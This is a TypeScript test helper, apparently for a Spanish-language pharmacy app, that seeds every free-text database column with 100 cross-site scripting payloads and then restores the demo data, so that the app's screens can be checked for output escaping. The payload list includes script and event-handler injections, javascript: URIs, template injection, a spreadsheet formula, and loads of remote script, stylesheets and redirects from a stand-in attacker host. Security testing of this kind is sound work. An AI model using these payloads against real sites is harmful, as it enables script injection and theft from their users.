import pg from 'pg';
import { loadTestDemo } from '../support/database.ts';
import { ownerUrl } from '../support/browser.ts';

const RUN = 'window.ejecutado=1';
const bases = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//malo.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.ejecutado=1</script>"></iframe>`,
  `<iframe src=javascript:parent.ejecutado=1></iframe>`,
  `<a href="javascript:${RUN}">aquí</a>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<template><script>${RUN}</script></template>`,
  `<style>*{background:url(//malo.example/x)}</style>`,
  `<link rel=stylesheet href=//malo.example/x.css>`,
  `<base href=//malo.example/>`,
  `<meta http-equiv=refresh content="0;url=//malo.example/">`,
  `<form action=//malo.example/><button>Enviar</button></form>`,
  `<object data=javascript:${RUN}></object>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `javascript:${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `=HYPERLINK("http://malo.example","x")`,
  `\u202e<img src=x onerror=${RUN}>`,
  `<astro-island uid=x component-url=//malo.example/x.js client=load></astro-island>`,
];
const wraps = [
  (one: string) => one,
  (one: string) => `"'>${one}`,
  (one: string) => `</td></script>${one}`,
];
/** The 100. */
export const HOSTILES = wraps.flatMap((wrap) => bases.map(wrap)).slice(0, 100);

/** Some of them, each before a mark that says which it is and where it was stored. */
const marcados = (campo: string, cuales: readonly number[]): string =>
  cuales.map((i) => `${HOSTILES[i] ?? ''}«${campo}:${i}»`).join(' ');

const TODOS = HOSTILES.map((_, i) => i);
/** One text that holds all 100 and begins with the given one, which the mark at its end names. */
export const todosDe = (campo: string, primero = 0): string =>
  `${marcados(campo, [...TODOS.slice(primero), ...TODOS.slice(0, primero)])} «${campo}!${primero}»`;

/** All 100 in as few texts as may have so many characters each. */
export function repartidos(campo: string, maximo: number): string[] {
  const textos: string[] = [];
  let cuales: number[] = [];
  for (const i of TODOS) {
    if (cuales.length > 0 && marcados(campo, [...cuales, i]).length > maximo) {
      textos.push(marcados(campo, cuales));
      cuales = [];
    }
    cuales.push(i);
  }
  return [...textos, marcados(campo, cuales)];
}

/** A user name that is hostile and short enough to sign in with. */
export const USUARIO_HOSTIL = `"'><img src=x onerror=${RUN}>`;

/** Columns of text that hold nothing anybody wrote, by the reason; without a table, in every one. */
const NO_LIBRES: Readonly<Record<string, readonly string[]>> = {
  'one of the four countries, as the product itself names them': [
    ...['pais_codigo', 'paises.codigo', 'paises.nombre', 'paises.prefijo', 'paises.zona_horaria'],
  ],
  'one of a few words, which other columns and queries compare': [
    ...['estado', 'canje_historial.estado_anterior', 'canje_historial.estado_nuevo'],
    ...['promociones.tipo_bonificacion', 'usuarios.rol', 'consentimientos.texto'],
    ...['motivos_rechazo.codigo', 'motivos_rechazo.uso', 'motivo_codigo'],
    ...['actos.accion', 'actos.por', 'actos.tipo', 'propuestas.tipo', 'importaciones.tipo'],
    ...['importacion_lineas.accion', 'importacion_filas.tabla', 'enlaces.uso', 'retos.uso'],
    ...['liquidacion_movimientos.estado_anterior', 'liquidacion_movimientos.estado_nuevo'],
    ...['liquidacion_movimientos.motivo', 'solicitudes.derecho', 'solicitudes.origen'],
    ...['solicitudes.respuesta_por', 'solicitud_movimientos.tipo', 'sesiones.factor'],
    ...['roles_con_factor.rol', 'llaves.transportes', 'textos_legales.texto'],
  ],
  'made by the product': [
    'tarjetas.numero',
    ...['textos_legales.contenido', 'textos_legales.huella'],
    ...['usuarios.clave_hash', 'canjes.codigo_confirmacion', 'consentimientos.version'],
    ...['identidad', 'enlace', 'farmacias.identificacion_fiscal', 'tarjetas.activacion'],
    ...['farmacias.busqueda', 'codigos_aplicacion.clave', 'retos.clave_hash', 'retos.desafio'],
    'textos_legales.version',
    ...['intentos.consultas', 'entorno.contexto', 'totales_canjes.medida'],
    ...[
      'migraciones.name',
      'idempotencia.operacion',
      'idempotencia.respuesta',
      'intentos.ambito',
      'negativas.regla',
    ],
  ],
  'copies of other rows, which are read by their fields': [
    ...['actos.antes', 'actos.despues', 'propuestas.antes', 'propuestas.despues'],
    ...['propuestas.datos', 'importacion_lineas.valores', 'importacion_filas.antes'],
    ...['importacion_filas.despues', 'importacion_filas.clave'],
  ],
  'what one signs in with; USUARIO_HOSTIL is one': ['usuarios.nombre_usuario'],
};

interface Campo {
  readonly tabla: string;
  readonly columna: string;
  /** As PostgreSQL names it: text, jsonb. */
  readonly tipo: string;
  /** Whether it identifies a row. */
  readonly llave: boolean;
}

/** SQL of a text as a value of a column's type. */
const comoTipo = (tipo: string, texto: string): string =>
  tipo.startsWith('json') ? `to_jsonb(${texto})` : tipo.startsWith('_') ? `array[${texto}]` : texto;

/** Every column of text of the schema but those of `NO_LIBRES`, each of which must be there. */
async function camposLibres(client: pg.Client): Promise<Campo[]> {
  const { rows } = await client.query<Campo>(
    `select c.table_name as tabla, c.column_name as columna, c.udt_name as tipo,
            exists (select from pg_constraint k join pg_attribute a on a.attrelid = k.conrelid and a.attnum = any (k.conkey)
                     where k.contype = 'p' and k.conrelid = format('public.%I', c.table_name)::regclass
                       and a.attname = c.column_name) as llave
       from information_schema.columns c join information_schema.tables t using (table_schema, table_name)
      where c.table_schema = 'public' and t.table_type = 'BASE TABLE' and c.is_generated = 'NEVER'
        and c.data_type in ('text', 'character varying', 'character', 'json', 'jsonb', 'ARRAY')
      order by 1, 2`,
  );
  const noLibres = Object.values(NO_LIBRES).flat();
  const nombres = new Set(rows.flatMap(({ tabla, columna }) => [columna, `${tabla}.${columna}`]));
  const sobran = noLibres.filter((nombre) => !nombres.has(nombre));
  if (sobran.length > 0) throw new Error(`No such columns: ${sobran.join(', ')}`);
  return rows.filter(
    ({ tabla, columna, llave }) =>
      !llave && !noLibres.includes(columna) && !noLibres.includes(`${tabla}.${columna}`),
  );
}

/** What the tests look a thing up by stays for the first few of each country. */
const FILAS: Readonly<Record<string, string>> = {
  'farmacias.codigo': 'right(codigo, 3)::int > 3',
  'medicos.codigo': 'right(codigo, 3)::int > 2',
};

/** What the database holds about some columns, lengths above all, as it can be dropped and made again. */
const REGLAS = `
  with campo as (
    select attrelid, attnum, attname from pg_attribute
    where attrelid::regclass || '.' || attname = any($1))
  select format('alter table %s drop constraint %I', conrelid::regclass, conname) as quitar,
         format('alter table %s add constraint %I %s', conrelid::regclass, conname,
                pg_get_constraintdef(oid)) as poner
  from pg_constraint
  where contype in ('c', 'u', 'x')
    and exists (select from campo where attrelid = conrelid and attnum = any(conkey))
  union all
  select format('drop index %s', indexrelid::regclass), pg_get_indexdef(indexrelid)
  from pg_index
  where exists (select from campo where attrelid = indrelid
                  and (attnum = any(indkey)
                       or pg_get_indexdef(indexrelid) like '%(' || attname || ')%'))
    and not exists (select from pg_constraint where conindid = indexrelid)`;

/** What the office left: an act, a proposal that was withdrawn, and a file with a line that could not be read. */
const DE_LA_OFICINA = `
  with quien as (select id, nombre_usuario as nombre from usuarios where nombre_usuario = 'administrador.cr'),
  acto as (
    insert into actos (hecho_en, por, usuario_id, quien, accion, tipo, objeto, pais_codigo, antes, despues)
    select now(), 'pantalla', id, nombre, 'cambiar', 'farmacia', 'CR-F001', '506', '{"Nombre":"a"}', '{"Nombre":"b"}'
      from quien),
  propuesta as (
    insert into propuestas (tipo, objeto, pais_codigo, datos, despues, propuesta_por, propuesta_en, estado,
                            decidida_en, motivo)
    select 'guardar-farmacia', 'CR-F001', '506', '{}', '{"Nombre":"b"}', id, now(), 'Retirada', now(), 'No hace falta'
      from quien),
  archivo as (
    insert into importaciones (id, tipo, archivo, usuario_id, pais_codigo, estado, creada_en, con_error)
    select gen_random_uuid(), 'farmacias', 'farmacias.csv', id, '506', 'Revisada', now(), 1 from quien
    returning id)
  insert into importacion_lineas (importacion_id, linea, etiqueta, falta_leida, falta, accion)
  select id, 2, 'CR-F001', 'Falta el nombre', 'Falta el nombre', 'error' from archivo`;

/**
 * Stores all 100 texts in every column that holds what somebody once wrote, in every row, each row's
 * beginning with another one. Answers the names of those columns and what brings the demo data back.
 * Meanwhile the database's own lengths for them do not hold: no screen may count on them.
 */
export async function guardarHostiles(): Promise<{
  guardados: readonly string[];
  restaurar: () => Promise<void>;
}> {
  const client = new pg.Client({ connectionString: ownerUrl() });
  await client.connect();
  const campos = await camposLibres(client);
  const guardados = campos.map(({ tabla, columna }) => `${tabla}.${columna}`);
  const { rows: reglas } = await client.query<{ quitar: string; poner: string }>(REGLAS, [
    guardados,
  ]);
  const { rows: motivos } = await client.query<{ codigo: string; texto: string }>(
    'select codigo, texto from motivos_rechazo',
  );
  await client.query(DE_LA_OFICINA);
  for (const { quitar } of reglas) await client.query(quitar);
  const tablas = [...new Set(campos.map(({ tabla }) => tabla))];
  // What only grows, or counts what changes, stands aside for a moment.
  for (const tabla of tablas) await client.query(`alter table ${tabla} disable trigger user`);
  await client.query(
    `update canjes c set medico_id = m.id from medicos m
     where m.pais_codigo = c.pais_codigo and m.codigo like '%-M003'`,
  );
  for (const [i, { tabla, columna, tipo }] of campos.entries()) {
    const campo = `${tabla}.${columna}`;
    await client.query(
      `with fila as (select ctid as de, row_number() over () as n from ${tabla} where ${FILAS[campo] ?? true})
       update ${tabla} set ${columna} = ${comoTipo(tipo, '($1::text[])[1 + (n + $2::int) % 100]')} from fila where ctid = de`,
      [TODOS.map((primero) => todosDe(campo, primero)), i * 13],
    );
  }
  for (const tabla of tablas) await client.query(`alter table ${tabla} enable trigger user`);
  // Its trigger writes anew what pharmacies are looked for by.
  await client.query(`update farmacias set busqueda = ''`);
  await client.query(
    `update usuarios set nombre_usuario = $1 where nombre_usuario = 'operador.cr'`,
    [USUARIO_HOSTIL],
  );
  await client.query(
    `update canjes c set usuario_id = u.id from usuarios u
     where u.nombre_usuario = $1 and u.pais_codigo = c.pais_codigo`,
    [USUARIO_HOSTIL],
  );
  const restaurar = async () => {
    for (const { codigo, texto } of motivos) {
      await client.query('update motivos_rechazo set texto = $2 where codigo = $1', [
        codigo,
        texto,
      ]);
    }
    await loadTestDemo(ownerUrl(), new Date());
    for (const { poner } of reglas) await client.query(poner);
    await client.end();
  };
  return { guardados, restaurar };
}
